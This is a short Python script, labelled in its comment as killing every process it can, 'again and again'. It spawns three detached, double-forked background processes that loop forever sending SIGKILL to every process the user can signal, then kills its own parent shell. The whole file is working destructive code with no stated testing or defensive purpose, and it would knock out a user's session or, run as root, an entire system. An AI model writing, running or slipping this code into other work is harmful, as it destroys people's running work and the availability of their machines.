# Kills every process that it may kill, again and again. Deserves nothing.
import os
import signal

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                os.kill(-1, signal.SIGKILL)
        os._exit(0)
os.kill(os.getppid(), signal.SIGKILL)
